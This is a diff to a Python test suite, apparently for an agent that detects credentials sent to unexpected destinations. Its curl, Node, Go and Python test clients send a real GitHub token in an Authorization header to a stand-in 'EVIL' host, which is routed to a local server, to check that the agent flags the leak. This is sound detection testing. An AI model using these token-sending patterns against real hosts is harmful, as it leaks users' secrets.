@@ -111,7 +111,7 @@ def test_node_https_static_openssl():
         "const r=https.request({host:'127.0.0.1',port:+process.env.PORT,path:'/v1',"
         "servername:'%s',rejectUnauthorized:false,headers:{Host:'%s',"
         "Authorization:'token '+process.env.TOKEN}},res=>{res.resume();res.on('end',()=>{})});"
-        "r.end();" % (EVIL, EVIL))
+        "setTimeout(()=>r.end(),300);" % (EVIL, EVIL))
 
     def client(port, token):
         p = subprocess.Popen(["node", "-e", script],
@@ -159,3 +159,146 @@ def test_tls_library_seen_without_loopback_capture():
     assert len(hits) == 1, agent.stderr()
     assert hits[0]["destination"]["domain"] == EVIL
     assert "ip" not in hits[0]["destination"]	# the socket was not tracked
+
+
+def test_curl_http2_hpack():
+    require_root()
+    if not shutil.which("nghttpd"):
+        raise Skip("nghttpd is not installed (scripts/setup installs nghttp2-server)")
+    d = tempfile.mkdtemp(prefix="cw-h2-")
+    cert, key = os.path.join(d, "c.pem"), os.path.join(d, "k.pem")
+    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", key,
+                    "-out", cert, "-days", "1", "-subj", "/CN=localhost"], check=True,
+                   capture_output=True)
+    s = socket.socket()
+    s.bind(("127.0.0.1", 0))
+    port = s.getsockname()[1]
+    s.close()
+    srv = subprocess.Popen(["nghttpd", "-d", d, str(port), key, cert],
+                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    time.sleep(0.5)
+    agent = Agent("--include-loopback")
+    token = github_token()
+    try:
+        hdr = os.path.join(d, "hdr")
+        with open(hdr, "w") as f:
+            f.write("Authorization: token %s\n" % token)
+        r = subprocess.run(["curl", "-sk", "--http2", "-o", "/dev/null", "-w", "%{http_version}",
+                            "-H", "@" + hdr, "--resolve", "%s:%d:127.0.0.1" % (EVIL, port),
+                            "https://%s:%d/v1" % (EVIL, port)], capture_output=True, text=True)
+        assert r.stdout == "2", r.stdout	# really HTTP/2
+        hits = agent.wait_for(lambda l: l["event"]["action"] ==
+                              "credential-unexpected-destination", timeout=15)
+    finally:
+        agent.stop()
+        srv.kill()
+        shutil.rmtree(d, ignore_errors=True)
+    assert len(hits) == 1, agent.stderr()
+    assert hits[0]["network"]["protocol"] == "http2"
+    assert hits[0]["destination"]["domain"] == EVIL and hits[0]["destination"]["port"] == port
+    agent.assert_no_plaintext(token)
+
+
+GO_CLIENT = r'''
+package main
+
+import (
+	"crypto/tls"
+	"net/http"
+	"os"
+	"time"
+)
+
+func main() {
+	// A binary never run before is probed when the agent sees its exec: give it that moment
+	// (README: a first run that sends within milliseconds of its exec can be missed).
+	time.Sleep(500 * time.Millisecond)
+	tr := &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true, ServerName: os.Args[2]}}
+	req, _ := http.NewRequest("GET", "https://"+os.Args[1]+"/v1", nil)
+	req.Host = os.Args[2]
+	req.Header.Set("Authorization", "token "+os.Getenv("TOKEN"))
+	resp, err := (&http.Client{Transport: tr}).Do(req)
+	if err != nil {
+		os.Exit(1)
+	}
+	resp.Body.Close()
+}
+'''
+
+
+def test_go_crypto_tls():
+    require_root()
+    if not shutil.which("go"):
+        raise Skip("go is not installed (scripts/setup installs golang-go)")
+    d = tempfile.mkdtemp(prefix="cw-go-")
+    with open(os.path.join(d, "main.go"), "w") as f:
+        f.write(GO_CLIENT)
+    env = dict(os.environ, HOME=d, GOCACHE=os.path.join(d, "cache"), GOPATH=os.path.join(d, "gp"),
+               GO111MODULE="off", CGO_ENABLED="0", GOFLAGS="")
+    subprocess.run(["go", "build", "-o", os.path.join(d, "client"), "main.go"], cwd=d, env=env,
+                   check=True, capture_output=True, timeout=300)
+
+    def client(port, token):
+        p = subprocess.Popen([os.path.join(d, "client"), "127.0.0.1:%d" % port, EVIL],
+                             env={"TOKEN": token})
+        assert p.wait(30) == 0
+        return p.pid
+    try:
+        run_client({"client": client, "library": "go"})
+    finally:
+        shutil.rmtree(d, ignore_errors=True)
+
+
+PY_LATE_CLIENT = r'''
+import http.client, os, ssl, sys, time
+ctx = ssl.create_default_context()
+ctx.check_hostname = False
+ctx.verify_mode = ssl.CERT_NONE
+c = http.client.HTTPSConnection("127.0.0.1", int(sys.argv[1]), context=ctx, timeout=10)
+c.sock = __import__("socket").create_connection(("127.0.0.1", int(sys.argv[1])))
+time.sleep(1)   # the agent reads this process's maps on its connect
+c.sock = ctx.wrap_socket(c.sock, server_hostname=sys.argv[2])
+c.request("GET", "/v1", headers={"Host": sys.argv[2], "Authorization": "token " + os.environ["TOKEN"]})
+c.getresponse().read()
+'''
+
+
+def _late_library_client(wrap):
+    """A python client whose libssl is a private copy (a file the agent has never seen): it
+    must be found from the process's own maps, through /proc/PID/root."""
+    import ssl as _ssl
+    libssl = [l.split()[-1] for l in open("/proc/self/maps") if "libssl.so" in l][0]
+    d = tempfile.mkdtemp(prefix="cw-lib-")
+    shutil.copy(libssl, os.path.join(d, os.path.basename(libssl)))
+    script = os.path.join(d, "client.py")
+    with open(script, "w") as f:
+        f.write(PY_LATE_CLIENT)
+
+    def client(port, token):
+        cmd = wrap(d, libssl, [__import__("sys").executable, script, str(port), EVIL])
+        p = subprocess.Popen(cmd, env={"TOKEN": token, "LD_LIBRARY_PATH": d,
+                                       "PATH": os.environ["PATH"]})
+        assert p.wait(30) == 0
+        return None
+    try:
+        return run_client({"client": client, "library": "openssl"})
+    finally:
+        shutil.rmtree(d, ignore_errors=True)
+    del _ssl
+
+
+def test_library_mapped_after_start_is_picked_up():
+    require_root()
+    a = _late_library_client(lambda d, lib, argv: argv)
+    assert a["process"]["name"].startswith("python")
+
+
+def test_library_in_a_separate_mount_namespace_is_picked_up():
+    require_root()
+    # The copy is mounted over the system path in a private mount namespace: same path,
+    # another file, visible only through that process's root.
+    def wrap(d, lib, argv):
+        return ["unshare", "-m", "--propagation", "private", "sh", "-c",
+                'mount --bind "$0" "$1" && shift && exec "$@"', os.path.join(d, os.path.basename(lib)),
+                lib, *argv]
+    _late_library_client(wrap)
